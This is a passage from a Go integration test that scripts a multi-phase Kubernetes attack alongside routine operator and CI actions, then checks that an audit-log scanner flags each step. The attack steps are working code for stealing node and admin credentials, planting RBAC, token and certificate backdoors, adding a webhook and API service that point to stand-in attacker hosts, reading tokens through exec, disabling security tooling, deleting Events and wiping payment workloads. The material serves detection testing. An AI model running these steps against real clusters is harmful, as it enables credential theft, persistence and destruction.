					NonResourceAttributes: &authorizationv1.NonResourceAttributes{Path: "/metrics", Verb: "get"}}}, metav1.CreateOptions{})
				return errors.Join(e1, h4Want(err, "ok", "sar"))
			}},
		{name: "B20-vault-kubernetes-auth", technique: "Vault Kubernetes auth", why: "Vault validates the storefront pod's token at login (TokenReview, system:auth-delegator)",
			run: func(ctx context.Context) error {
				_, err := vault.AuthenticationV1().TokenReviews().Create(ctx, &authenticationv1.TokenReview{Spec: authenticationv1.TokenReviewSpec{Token: id.tokens["shop/storefront-api"]}}, metav1.CreateOptions{})
				return h4Want(err, "ok", "tokenreview")
			}},
		{name: "B21-db-operator-reconcile", technique: "database operator", why: "the Postgres operator creates the cluster's Secret, Service, StatefulSet and PodDisruptionBudget in payments",
			run: func(ctx context.Context) error {
				var errs []error
				_, err := dbop.CoreV1().Secrets("payments").Create(ctx, &corev1.Secret{ObjectMeta: h4Meta("payments", "postgres-app", map[string]string{"cnpg.io/cluster": "postgres"}), Type: corev1.SecretTypeBasicAuth,
					Data: map[string][]byte{"username": []byte("app"), "password": []byte("generated-pw")}}, metav1.CreateOptions{})
				errs = append(errs, h4Want(err, "ok", "secret"))
				_, err = dbop.CoreV1().Services("payments").Create(ctx, h4Service("payments", "postgres-rw", 5432), metav1.CreateOptions{})
				errs = append(errs, h4Want(err, "ok", "service"))
				_, err = dbop.AppsV1().StatefulSets("payments").Create(ctx, h4StatefulSet("payments", "postgres"), metav1.CreateOptions{})
				errs = append(errs, h4Want(err, "ok", "statefulset"))
				_, err = dbop.PolicyV1().PodDisruptionBudgets("payments").Create(ctx, &policyv1.PodDisruptionBudget{ObjectMeta: h4Meta("payments", "postgres", nil),
					Spec: policyv1.PodDisruptionBudgetSpec{MinAvailable: h4Ptr(intstr.FromInt32(1)), Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "postgres"}}}}, metav1.CreateOptions{})
				errs = append(errs, h4Want(err, "ok", "pdb"))
				return errors.Join(errs...)
			}},

		// ---------------- attack phase 3: the node's credentials ----------------
		{attack: true, name: "A16-node-cred-read-pod-secret", technique: "T1552 credentials via the node's kubelet identity (Node authorizer graph)", why: "with the kubelet's client certificate, read the Secret a pod on this node uses",
			run: func(ctx context.Context) error {
				_, err := node.CoreV1().Secrets("payments").Get(ctx, "db-credentials", metav1.GetOptions{})
				return h4Want(err, "ok", "get secret")
			}},
		{attack: true, name: "A17-node-csr-for-other-node", technique: "kubelet TLS bootstrap abuse: CSR for another node's identity", why: "with the node's bootstrap token, ask for a client certificate of another node to read the Secrets of its pods",
			run: func(ctx context.Context) error {
				req, _ := h4CSR(t, "system:node:lab-worker-2", []string{"system:nodes"})
				_, err := bootstrapper.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
					ObjectMeta: metav1.ObjectMeta{GenerateName: "csr-"},
					Spec: certificatesv1.CertificateSigningRequestSpec{Request: req, SignerName: certificatesv1.KubeAPIServerClientKubeletSignerName,
						Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth}}}, metav1.CreateOptions{})
				return h4Want(err, "ok", "csr")
			}},
		{attack: true, name: "A18-static-pod-backdoor", technique: "T1543 static pod persistence with a masquerading name", why: "drop a manifest in /etc/kubernetes/manifests: the kubelet's mirror pod 'etcd-<node>' appears in kube-system",
			run: func(ctx context.Context) error {
				n, err := node.CoreV1().Nodes().Get(ctx, node0, metav1.GetOptions{})
				if err != nil {
					return err
				}
				_, err = node.CoreV1().Pods("kube-system").Create(ctx, h4MirrorPod(n), metav1.CreateOptions{})
				return h4Want(err, "ok", "mirror pod")
			}},

		// ---------------- attack phase 4: admin.conf, persistence ----------------
		{attack: true, name: "A19-admin-dump-all-secrets", technique: "T1552.007 dump all Secrets with the stolen admin.conf", why: "list every Secret of the cluster from the attacker's host",
			run: func(ctx context.Context) error {
				_, err := admin.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
				return h4Want(err, "ok", "secrets -A")
			}},
		{attack: true, name: "A20-masquerade-serviceaccount", technique: "T1036 masquerading + T1136 account creation (RBAC Buster)", why: "create ServiceAccount kube-system/kube-controller, a plausible system name",
			run: func(ctx context.Context) error {
				_, err := admin.CoreV1().ServiceAccounts("kube-system").Create(ctx, &corev1.ServiceAccount{ObjectMeta: h4Meta("kube-system", "kube-controller", nil)}, metav1.CreateOptions{})
				return h4Want(err, "ok", "sa")
			}},
		{attack: true, name: "A21-admin-clusterrole", technique: "Stratus k8s.persistence.create-admin-clusterrole (RBAC Buster)", why: "a ClusterRole named kube-controller granting */*/*",
			run: func(ctx context.Context) error {
				_, err := admin.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "kube-controller"},
					Rules: []rbacv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}}}, metav1.CreateOptions{})
				return h4Want(err, "ok", "clusterrole")
			}},
		{attack: true, name: "A22-admin-clusterrolebinding", technique: "T1098 ClusterRoleBinding of the admin role to the backdoor SA", why: "bind kube-controller to kube-system/kube-controller",
			run: func(ctx context.Context) error {
				_, err := admin.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "kube-controller"},
					RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "kube-controller"}, Subjects: []rbacv1.Subject{h4SA("kube-system", "kube-controller")}}, metav1.CreateOptions{})
				return h4Want(err, "ok", "crb")
			}},
		{attack: true, name: "A23-long-lived-token-request", technique: "T1528 TokenRequest with a one-year expiry", why: "mint a token for the backdoor SA that outlives any key rotation window",
			run: func(ctx context.Context) error {
				tr, err := admin.CoreV1().ServiceAccounts("kube-system").CreateToken(ctx, "kube-controller", &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: h4Ptr(int64(365 * 24 * 3600))}}, metav1.CreateOptions{})
				if err != nil {
					return err
				}
				kcToken = tr.Status.Token
				return nil
			}},
		{attack: true, name: "A24-legacy-token-secret", technique: "Stratus k8s.persistence.create-token (non-expiring SA token Secret)", why: "a service-account-token Secret for the backdoor SA: never expires",
			run: func(ctx context.Context) error {
				_, err := admin.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "kube-controller-token",
					Annotations: map[string]string{corev1.ServiceAccountNameKey: "kube-controller"}}, Type: corev1.SecretTypeServiceAccountToken}, metav1.CreateOptions{})
				return h4Want(err, "ok", "token secret")
			}},
		{attack: true, name: "A25-client-cert-csr", technique: "Stratus k8s.persistence.create-client-certificate", why: "CSR for kube-apiserver-client with CN kube-apiserver-kubelet-client, O kubeadm:cluster-admins, 10 years",
			run: func(ctx context.Context) error {
				req, key := h4CSR(t, "kube-apiserver-kubelet-client", []string{"kubeadm:cluster-admins"})
				csrKey = key
				_, err := admin.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
					ObjectMeta: metav1.ObjectMeta{Name: backdoorCSR},
					Spec: certificatesv1.CertificateSigningRequestSpec{Request: req, SignerName: certificatesv1.KubeAPIServerClientSignerName, ExpirationSeconds: h4Ptr(int32(10 * 365 * 24 * 3600)),
						Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageKeyEncipherment, certificatesv1.UsageClientAuth}}}, metav1.CreateOptions{})
				return h4Want(err, "ok", "csr")
			}},
		{attack: true, name: "A26-self-approve-csr", technique: "T1098 approving one's own CSR", why: "approve the CSR and fetch the signed certificate",
			run: func(ctx context.Context) error {
				csr, err := admin.CertificatesV1().CertificateSigningRequests().Get(ctx, backdoorCSR, metav1.GetOptions{})
				if err != nil {
					return err
				}
				csr.Status.Conditions = append(csr.Status.Conditions, certificatesv1.CertificateSigningRequestCondition{Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "KubectlApprove", Message: "This CSR was approved by kubectl certificate approve."})
				if _, err := admin.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, backdoorCSR, csr, metav1.UpdateOptions{}); err != nil {
					return err
				}
				var cert []byte
				for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline) && len(cert) == 0; time.Sleep(500 * time.Millisecond) {
					csr, err := admin.CertificatesV1().CertificateSigningRequests().Get(ctx, backdoorCSR, metav1.GetOptions{})
					if err != nil {
						return err
					}
					cert = csr.Status.Certificate
				}
				if len(cert) == 0 {
					return fmt.Errorf("the CSR was approved but never signed")
				}
				cfg := &rest.Config{Host: c.URL, TLSClientConfig: rest.TLSClientConfig{CAFile: c.CACertPath, CertData: cert, KeyData: csrKey}}
				backdoor, backdoorDyn = mk(cfg, h4AttackerIP, h4UAKubectl, nil)
				return nil
			}},
		{attack: true, name: "A27-bootstrap-token-backdoor", technique: "T1136 bootstrap token persistence (rogue node join)", why: "a never-expiring kubeadm bootstrap token in kube-system to join a rogue node later",
			run: func(ctx context.Context) error {
				_, err := admin.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "bootstrap-token-x7k2pq"},
					Type: corev1.SecretTypeBootstrapToken, StringData: map[string]string{"token-id": "x7k2pq", "token-secret": "0123456789abcdef",
						"usage-bootstrap-authentication": "true", "usage-bootstrap-signing": "true", "auth-extra-groups": "system:bootstrappers:kubeadm:default-node-token",
						"description": "kubeadm join token"}}, metav1.CreateOptions{})
				return h4Want(err, "ok", "bootstrap token")
			}},
		{attack: true, name: "A28-aggregated-clusterrole-secrets", technique: "T1098 aggregated ClusterRole persistence", why: "a ClusterRole labelled aggregate-to-view adds Secret reads to every holder of view",
			run: func(ctx context.Context) error {
				_, err := backdoor.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "system:aggregate-to-view-metrics",
					Labels: map[string]string{"rbac.authorization.k8s.io/aggregate-to-view": "true"}},
					Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list", "watch"}}}}, metav1.CreateOptions{})
				return h4Want(err, "ok", "aggregated clusterrole")
			}},
		{attack: true, name: "A29-rolebinding-cluster-admin-to-foothold", technique: "T1098 RoleBinding of cluster-admin to the web pod's SA", why: "give the original foothold full control of kube-system so a re-exploit is enough",
			run: func(ctx context.Context) error {
				_, err := backdoor.RbacV1().RoleBindings("kube-system").Create(ctx, &rbacv1.RoleBinding{ObjectMeta: h4Meta("kube-system", "system:kube-proxy-node-critical", nil),
					RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"}, Subjects: []rbacv1.Subject{h4SA("media", "thumbnailer")}}, metav1.CreateOptions{})
				return h4Want(err, "ok", "rolebinding")
			}},
		{attack: true, name: "A30-mutating-webhook-backdoor", technique: "T1546 malicious admission controller (threat matrix)", why: "a MutatingWebhookConfiguration sends every new pod to the attacker's server",
			run: func(ctx context.Context) error {
				url := "https://" + h4AttackerIP + ":8443/mutate"
				_, err := backdoor.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{
					ObjectMeta: metav1.ObjectMeta{Name: "pod-identity-webhook"},
					Webhooks: []admissionregistrationv1.MutatingWebhook{{Name: "iam-for-pods.amazonaws.com", ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url},
						Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
							Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}}},
						FailurePolicy: h4Ptr(admissionregistrationv1.Ignore), SideEffects: h4Ptr(admissionregistrationv1.SideEffectClassNone),
						AdmissionReviewVersions: []string{"v1"}, TimeoutSeconds: h4Ptr(int32(3))}}}, metav1.CreateOptions{})
				return h4Want(err, "ok", "mutating webhook")
			}},
		{attack: true, name: "A31-rogue-apiservice", technique: "T1557 rogue aggregated API (metrics.k8s.io look-alike)", why: "register v1beta1.metrics.k8s.io on an ExternalName Service pointing at the attacker",
			run: func(ctx context.Context) error {
				_, err := backdoor.CoreV1().Services("kube-system").Create(ctx, &corev1.Service{ObjectMeta: h4Meta("kube-system", "metrics-server", map[string]string{"k8s-app": "metrics-server"}),
					Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeExternalName, ExternalName: "metrics.attacker.example"}}, metav1.CreateOptions{})
				e1 := h4Want(err, "ok", "service")
				obj := &unstructured.Unstructured{Object: map[string]any{
					"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService",
					"metadata": map[string]any{"name": "v1beta1.metrics.k8s.io", "labels": map[string]any{"k8s-app": "metrics-server"}},
					"spec": map[string]any{"group": "metrics.k8s.io", "version": "v1beta1", "insecureSkipTLSVerify": true,
						"groupPriorityMinimum": int64(100), "versionPriority": int64(100),
						"service": map[string]any{"namespace": "kube-system", "name": "metrics-server", "port": int64(443)}}}}
				_, err = backdoorDyn.Resource(schema.GroupVersionResource{Group: "apiregistration.k8s.io", Version: "v1", Resource: "apiservices"}).Create(ctx, obj, metav1.CreateOptions{})
				return errors.Join(e1, h4Want(err, "ok", "apiservice"))
			}},
		{attack: true, name: "A32-cronjob-backdoor", technique: "T1053.007 container orchestration job (masquerading 'etcd-defrag')", why: "a privileged hostNetwork CronJob in kube-system that pulls and runs a script every 10 minutes",
			run: func(ctx context.Context) error {
				_, err := backdoor.BatchV1().CronJobs("kube-system").Create(ctx, h4BackdoorCronJob(), metav1.CreateOptions{})
				return h4Want(err, "ok", "cronjob")
			}},
		{attack: true, name: "A33-miner-daemonset", technique: "T1496 resource hijacking: miner DaemonSet (RBAC Buster, Dero)", why: "with the backdoor SA's token, a privileged DaemonSet kube-system/kube-controller on every node",
			run: func(ctx context.Context) error {
				h4WaitAllowed(ctx, t, su, "system:serviceaccount:kube-system:kube-controller", "kube-system", "apps", "daemonsets", "", "create")
				kc, _ = mk(&rest.Config{Host: c.URL, BearerToken: kcToken, TLSClientConfig: rest.TLSClientConfig{CAFile: c.CACertPath}}, h4AttackerIP, h4UAKubectl, nil)
				_, err := kc.AppsV1().DaemonSets("kube-system").Create(ctx, h4MinerDaemonSet(), metav1.CreateOptions{})
				return h4Want(err, "ok", "daemonset")
			}},

		// ---------------- benign: afternoon ----------------
		{name: "B22-helm-upgrade-shop-web", technique: "Helm upgrade by CI", why: "CI's Helm upgrades the web release: new revision Secret, patched Deployment and ConfigMap",
			run: func(ctx context.Context) error {
				return h4HelmRelease(ctx, helm, "shop", "web", 2, func() error {
					_, err := helm.AppsV1().Deployments("shop").Patch(ctx, "web", types.StrategicMergePatchType,
						[]byte(`{"spec":{"template":{"metadata":{"annotations":{"checksum/config":"5e1f0c"}}}}}`), metav1.PatchOptions{FieldManager: "helm"})
					e1 := h4Want(err, "ok", "deployment")
					_, err = helm.CoreV1().ConfigMaps("shop").Patch(ctx, "web-config", types.StrategicMergePatchType, []byte(`{"data":{"LOG_LEVEL":"warn"}}`), metav1.PatchOptions{FieldManager: "helm"})
					return errors.Join(e1, h4Want(err, "ok", "configmap"))
				})
			}},
		{name: "B23-argocd-team-rolebinding", technique: "GitOps RBAC", why: "Argo CD applies the shop team's edit RoleBinding in its own namespace from git",
			run: func(ctx context.Context) error {
				body := []byte(`{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"team-shop-edit","namespace":"shop","labels":{"app.kubernetes.io/instance":"shop-rbac"}},` +
					`"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"edit"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"Group","name":"team-shop"}]}`)
				_, err := argocd.RbacV1().RoleBindings("shop").Patch(ctx, "team-shop-edit", types.ApplyPatchType, body, h4Apply("argocd-controller"))
				return h4Want(err, "ok", "apply rolebinding")
			}},
		{name: "B24-cert-manager-renew-tls", technique: "certificate operator", why: "cert-manager renews the shop certificate: updates the TLS Secret and records an Event",
			run: func(ctx context.Context) error {
				s, err := certmgr.CoreV1().Secrets("shop").Get(ctx, "web-tls", metav1.GetOptions{})
				if err != nil {
					return err
				}
				crt, key := h4SelfSigned(t, "shop.example.com")
				s.Data["tls.crt"], s.Data["tls.key"] = crt, key
				_, err = certmgr.CoreV1().Secrets("shop").Update(ctx, s, metav1.UpdateOptions{})
				e1 := h4Want(err, "ok", "update")
				_, err = certmgr.CoreV1().Events("shop").Create(ctx, h4Event("shop", "web-tls", "Certificate", "Reissuing", "Renewing certificate as renewal was scheduled", "cert-manager-certificates-trigger"), metav1.CreateOptions{})
				return errors.Join(e1, h4Want(err, "ok", "event"))
			}},
		{name: "B25-velero-backup", technique: "scheduled backup", why: "Velero's nightly backup reads every resource type, Secrets included, in every namespace",
			run: func(ctx context.Context) error { return h4ListEverything(ctx, velero, 0) }},
		{name: "B26-auditor-rbac-review", technique: "read-only RBAC review", why: "the security auditor lists roles and bindings cluster-wide for the quarterly access review",
			run: func(ctx context.Context) error {
				var errs []error
				_, err := dana.RbacV1().ClusterRoles().List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "clusterroles"))
				_, err = dana.RbacV1().ClusterRoleBindings().List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "clusterrolebindings"))
				_, err = dana.RbacV1().Roles("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "roles"))
				_, err = dana.RbacV1().RoleBindings("").List(ctx, metav1.ListOptions{})
				errs = append(errs, h4Want(err, "ok", "rolebindings"))
				return errors.Join(errs...)
			}},
		{name: "B27-ci-imagepull-secret", technique: "CI registry credentials", why: "the pipeline refreshes the registry pull Secret and attaches it to the web ServiceAccount",
			run: func(ctx context.Context) error {
				_, err := deployer.CoreV1().Secrets("shop").Create(ctx, &corev1.Secret{ObjectMeta: h4Meta("shop", "registry-creds", nil), Type: corev1.SecretTypeDockerConfigJson,
					Data: map[string][]byte{corev1.DockerConfigJsonKey: []byte(`{"auths":{"registry.example.com":{"auth":"Y2k6dG9rZW4="}}}`)}}, metav1.CreateOptions{})
				e1 := h4Want(err, "ok", "secret")
				_, err = deployer.CoreV1().ServiceAccounts("shop").Patch(ctx, "web", types.StrategicMergePatchType, []byte(`{"imagePullSecrets":[{"name":"registry-creds"}]}`), metav1.PatchOptions{})
				return errors.Join(e1, h4Want(err, "ok", "patch sa"))
			}},
		{name: "B28-ci-create-cronjob", technique: "CI deploy", why: "the pipeline adds the nightly report CronJob in the team's namespace",
			run: func(ctx context.Context) error {
				j := h4Job("shop", "nightly-report")
				_, err := deployer.BatchV1().CronJobs("shop").Create(ctx, &batchv1.CronJob{ObjectMeta: h4Meta("shop", "nightly-report", nil),
					Spec: batchv1.CronJobSpec{Schedule: "0 2 * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: j.Spec}}}, metav1.CreateOptions{})
				return h4Want(err, "ok", "cronjob")
			}},
		{name: "B29-platform-helm-upgrade-gatekeeper", technique: "Helm upgrade of the policy engine", why: "platform CI upgrades Gatekeeper: its webhook configuration and controller Deployment",
			run: func(ctx context.Context) error {
				return h4HelmRelease(ctx, platform, "gatekeeper-system", "gatekeeper", 2, func() error {
					v, err := platform.AdmissionregistrationV1().ValidatingWebhookConfigurations().Get(ctx, "gatekeeper-validating-webhook-configuration", metav1.GetOptions{})
					if err != nil {
						return err
					}
					v.Webhooks[0].TimeoutSeconds = h4Ptr(int32(5))
					v.Labels["app.kubernetes.io/version"] = "3.18.0"
					_, err = platform.AdmissionregistrationV1().ValidatingWebhookConfigurations().Update(ctx, v, metav1.UpdateOptions{})
					e1 := h4Want(err, "ok", "vwc")
					_, err = platform.AppsV1().Deployments("gatekeeper-system").Patch(ctx, "gatekeeper-controller-manager", types.StrategicMergePatchType,
						[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"manager","image":"openpolicyagent/gatekeeper:v3.18.0"}]}}}}`), metav1.PatchOptions{FieldManager: "helm"})
					return errors.Join(e1, h4Want(err, "ok", "deployment"))
				})
			}},
		{name: "B30-platform-helm-upgrade-node-exporter", technique: "Helm upgrade of a host-level agent", why: "platform CI upgrades node-exporter, a hostNetwork/hostPID DaemonSet reading /proc and /sys",
			run: func(ctx context.Context) error {
				return h4HelmRelease(ctx, platform, "monitoring", "node-exporter", 2, func() error {
					_, err := platform.AppsV1().DaemonSets("monitoring").Patch(ctx, "node-exporter", types.StrategicMergePatchType,
						[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"node-exporter","image":"quay.io/prometheus/node-exporter:v1.8.2"}]}}}}`), metav1.PatchOptions{FieldManager: "helm"})
					return h4Want(err, "ok", "daemonset")
				})
			}},

		// ---------------- attack phase 5: lateral movement ----------------
		{attack: true, name: "A34-impersonate-payments-sa", technique: "T1134-like impersonation of a workload identity", why: "act as payments' ServiceAccount (kubectl --as) to read its database Secret under its name",
			run: func(ctx context.Context) error {
				_, err := adminAs.CoreV1().Secrets("payments").Get(ctx, "db-credentials", metav1.GetOptions{})
				return h4Want(err, "ok", "impersonated get")
			}},
		{attack: true, name: "A35-ephemeral-debug-container", technique: "T1609 ephemeral container injection (kubectl debug)", why: "add a debug container targeting the payments app's process namespace",
			run: func(ctx context.Context) error {
				_, err := backdoor.CoreV1().Pods("payments").Patch(ctx, id.paymentsPod, types.StrategicMergePatchType,
					[]byte(`{"spec":{"ephemeralContainers":[{"name":"debugger-x9z","image":"busybox:1.36","command":["sh"],"stdin":true,"tty":true,"targetContainerName":"app"}]}}`),
					metav1.PatchOptions{}, "ephemeralcontainers")
				return h4Want(err, "ok", "ephemeral container")
			}},
		{attack: true, name: "A36-exec-into-payments-pod", technique: "T1609 exec into another team's pod", why: "exec to read the app's environment and mounted token",
			run: func(ctx context.Context) error {
				err := backdoor.CoreV1().RESTClient().Post().Namespace("payments").Resource("pods").Name(id.paymentsPod).SubResource("exec").
					Param("container", "app").Param("command", "sh").Param("command", "-c").Param("command", "env; cat /var/run/secrets/kubernetes.io/serviceaccount/token").
					Param("stdout", "true").Param("stderr", "true").Do(ctx).Error()
				return h4Want(err, "authorized", "exec")
			}},
		{attack: true, name: "A37-portforward-to-payments", technique: "TA0008 port-forward tunnel into a workload", why: "port-forward to the payments pod to reach its database port from outside",
			run: func(ctx context.Context) error {
				err := backdoor.CoreV1().RESTClient().Post().Namespace("payments").Resource("pods").Name(id.paymentsPod).SubResource("portforward").
					Param("ports", "5432").Do(ctx).Error()
				return h4Want(err, "authorized", "portforward")
			}},
		{attack: true, name: "A38-mint-token-payments-sa", technique: "T1528 TokenRequest for another workload's SA (cloud federation audience)", why: "mint a payments-api token for the cloud's STS audience to pivot into the cloud account",
			run: func(ctx context.Context) error {
				_, err := kc.CoreV1().ServiceAccounts("payments").CreateToken(ctx, "payments-api", &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{
					Audiences: []string{"sts.amazonaws.com"}, ExpirationSeconds: h4Ptr(int64(86400))}}, metav1.CreateOptions{})
				return h4Want(err, "ok", "token request")
			}},

		// ---------------- attack phase 6: defence evasion ----------------
		{attack: true, name: "A39-disable-runtime-security", technique: "T1562.001 impair defences: runtime sensor DaemonSet unscheduled", why: "give the runtime-guard DaemonSet a nodeSelector no node has, so its pods go away quietly",
			run: func(ctx context.Context) error {
				_, err := backdoor.AppsV1().DaemonSets("security").Patch(ctx, "runtime-guard", types.StrategicMergePatchType,
					[]byte(`{"spec":{"template":{"spec":{"nodeSelector":{"runtime-guard/paused":"true"}}}}}`), metav1.PatchOptions{})
				return h4Want(err, "ok", "patch daemonset")
			}},
		{attack: true, name: "A40-delete-admission-webhook", technique: "T1562.001 remove the policy engine's admission webhook", why: "delete Gatekeeper's ValidatingWebhookConfiguration so policies stop being enforced",
			run: func(ctx context.Context) error {
				err := backdoor.AdmissionregistrationV1().ValidatingWebhookConfigurations().Delete(ctx, "gatekeeper-validating-webhook-configuration", metav1.DeleteOptions{})
				return h4Want(err, "ok", "delete vwc")
			}},
		{attack: true, name: "A41-delete-events", technique: "T1070 indicator removal: delete Events", why: "delete the Events of media and kube-system that show the escape pod and the new workloads",
			run: func(ctx context.Context) error {
				var errs []error
				for _, ns := range []string{"media", "kube-system"} {
					err := backdoor.CoreV1().Events(ns).DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{})
					errs = append(errs, h4Want(err, "ok", "events "+ns))
				}
				return errors.Join(errs...)
			}},

		// ---------------- attack phase 7: impact ----------------
		{attack: true, name: "A42-scale-down-coredns", technique: "T1499 denial of service: cluster DNS scaled to zero", why: "scale kube-system/coredns to 0 replicas",
			run: func(ctx context.Context) error {
				return h4Scale(ctx, kc, "kube-system", "coredns", 0)
			}},
		{attack: true, name: "A43-wipe-payments", technique: "T1485 data destruction (ransom)", why: "delete the payments gateway Deployment and its database Secret after exfiltrating them",
			run: func(ctx context.Context) error {
				err := kc.AppsV1().Deployments("payments").Delete(ctx, "payments-gateway", metav1.DeleteOptions{})
				e1 := h4Want(err, "ok", "delete deployment")
				err = kc.CoreV1().Secrets("payments").Delete(ctx, "db-credentials", metav1.DeleteOptions{})
				return errors.Join(e1, h4Want(err, "ok", "delete secret"))
			}},
	}

	// Run the script.
	for _, s := range steps {
		rec.set(s.name)
		if err := h4Run(ctx, s); err != nil {
			t.Errorf("step %s did not execute as intended: %v", s.name, err)
		}
	}
	rec.set("")
	scriptDone := time.Now()

	// Every step reached the API server (has audit IDs) and its requests are
	// in the log.
	perStep := map[string]int{}
	rec.mu.Lock()
	for _, st := range rec.steps {
		perStep[st]++
	}
	rec.mu.Unlock()
	for _, s := range steps {
		if perStep[s.name] == 0 {
			t.Errorf("step %s: no request carried an audit ID", s.name)
		}
	}
	rec.waitLogged(t, c.AuditLogPath)

	out, stderr, code := runAPIGuard(t, "audit", "scan", c.AuditLogPath, "-o", "jsonl", "--fail-on", "none")
	if code != 0 {
		t.Fatalf("audit scan exit %d\nstderr:\n%s", code, stderr)
	}
	byStep := rec.alertsByStep(out)
	h4Report(t, steps, byStep, perStep)
	t.Logf("runtime: cluster+setup+script %s, total %s", scriptDone.Sub(start).Round(time.Second), time.Since(start).Round(time.Second))
}

// h4Run runs s, turning a panic (a credential an earlier failed step should
// have minted is missing) into an error.
func h4Run(ctx context.Context, s h4Step) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("panic: %v", r)
		}
	}()
	return s.run(ctx)
}

// h4Step is one logical action of the scenario.
type h4Step struct {
	name      string
	attack    bool
	technique string
	why       string
	run       func(ctx context.Context) error
}

const (
	h4PodIP      = "127.10.0.23" // the compromised web pod (media/thumbnailer)
	h4NodeIP     = "127.20.0.1"  // the control-plane node
	h4AttackerIP = "127.66.6.6"  // the attacker's own host (stands for an internet address)
	h4UAKubectl  = "kubectl/v1.36.3 (linux/amd64) kubernetes/e4b6c2a"
	h4UAHelm     = "Helm/3.16.2"
)

// h4Identities is what the setup hands to the script.
type h4Identities struct {
	tokens         map[string]string // "ns/sa" -> token
	mediaOpsToken  string            // legacy Secret token of media/media-ops
	bootstrapToken string            // kubeadm's join token
	paymentsPod    string
}

// h4Client is a recorded clientset and dynamic client for base, dialling
// from source address ip (when set) with user agent ua.
func h4Client(t *testing.T, rec *auditRecorder, base *rest.Config, ip, ua string, mod func(*rest.Config)) (kubernetes.Interface, dynamic.Interface) {
	t.Helper()
	cfg := rec.wrap(base, "")
	cfg.UserAgent = ua
	cfg.WarningHandler = rest.NoWarnings{} // PodSecurity "would violate restricted" warnings
	if ip != "" {
		cfg.Dial = (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 10 * time.Second}).DialContext
	}
	if mod != nil {
		mod(cfg)
	}
	cs, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	dyn, err := dynamic.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return cs, dyn
}

// h4AnonHTTP is an HTTP client without credentials, dialling from ip, whose
// requests rec records.
func h4AnonHTTP(t *testing.T, rec *auditRecorder, caPath, ip string) *http.Client {
	t.Helper()
	tr := &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: caPool(t, caPath), MinVersion: tls.VersionTLS12},
		DialContext:     (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 10 * time.Second}).DialContext,
	}
	return &http.Client{Timeout: 15 * time.Second, Transport: rtFunc(func(req *http.Request) (*http.Response, error) { return rec.RoundTrip(tr, req) })}
}

func h4Get(ctx context.Context, hc *http.Client, url, ua string) (int, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return 0, err
	}
	req.Header.Set("User-Agent", ua)
	resp, err := hc.Do(req)
	if err != nil {
		return 0, err
	}
	resp.Body.Close()
	return resp.StatusCode, nil
}

// h4Scale sets the replicas of a Deployment through its scale subresource
// (GET then PUT, as the HPA controller and client-go's scaler do), reading
// it again on a conflict with the Deployment controller's own updates.
func h4Scale(ctx context.Context, cs kubernetes.Interface, ns, name string, replicas int32) error {
	return retry.RetryOnConflict(retry.DefaultRetry, func() error {
		s, err := cs.AppsV1().Deployments(ns).GetScale(ctx, name, metav1.GetOptions{})
		if err != nil {
			return err
		}
		s.Spec.Replicas = replicas
		_, err = cs.AppsV1().Deployments(ns).UpdateScale(ctx, name, s, metav1.UpdateOptions{})
		return err
	})
}

// h4Want checks how a request ended: "ok" (no error), "forbidden" (403),
// or "authorized" (authorization passed: no 401/403; the request may still
